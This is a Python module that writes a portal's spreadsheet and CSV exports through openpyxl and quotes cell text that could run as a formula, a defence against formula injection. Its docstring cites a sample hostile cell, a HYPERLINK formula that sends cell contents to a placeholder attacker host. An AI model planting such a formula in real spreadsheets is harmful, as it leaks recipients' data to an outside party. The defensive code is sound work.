"""The one spreadsheet writer: every workbook and CSV the portal hands out goes through here.

A cell whose text starts with ``= + - @`` (or a tab or carriage return, which Excel and
LibreOffice skip before looking for a formula) would run as a formula on the recipient's
machine; a monitoring item titled ``=HYPERLINK("http://evil.example/?leak="&A1)`` must
arrive as text. ``neutralise`` prefixes such text with an apostrophe, the convention
spreadsheet programs show as plain text; ``restore`` takes it off again on import.
"""

from io import BytesIO

from openpyxl import Workbook
from openpyxl.cell.cell import Cell

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """The value as it may be written to a cell: text that could be a formula is quoted."""
    if isinstance(value, str) and value.startswith(DANGEROUS):
        return "'" + value
    return value


def restore(text: str) -> str:
    """The inverse of `neutralise`, for reading back a file the portal wrote."""
    return text[1:] if text.startswith("'") and text[1:].startswith(DANGEROUS) else text


class SafeWorkbook:
    """An openpyxl workbook whose cells are written only through `put` and `append`, so no
    text can become a formula. Numbers and dates pass unchanged."""

    def __init__(self):
        self.book = Workbook()
        self._first = True

    def sheet(self, title: str):
        """A new sheet (the first call reuses the workbook's default one). Excel allows 31
        characters and no ``[]:*?/\\`` in a sheet name."""
        clean = "".join(" " if ch in "[]:*?/\\" else ch for ch in str(title))[:31] or "Sheet"
        if self._first:
            self._first = False
            sheet = self.book.active
            sheet.title = clean
            return sheet
        return self.book.create_sheet(clean)

    @staticmethod
    def put(sheet, row: int, column: int, value) -> Cell:
        cell = sheet.cell(row=row, column=column)
        cell.value = neutralise(value)
        if isinstance(cell.value, str):
            cell.data_type = "s"  # never "f", whatever openpyxl guesses
        return cell

    @staticmethod
    def append(sheet, values) -> int:
        row = sheet._current_row + 1  # what openpyxl's own append uses  # noqa: SLF001
        for column, value in enumerate(values, start=1):
            SafeWorkbook.put(sheet, row, column, value)
        return row

    def to_bytes(self) -> bytes:
        out = BytesIO()
        self.book.save(out)
        return out.getvalue()
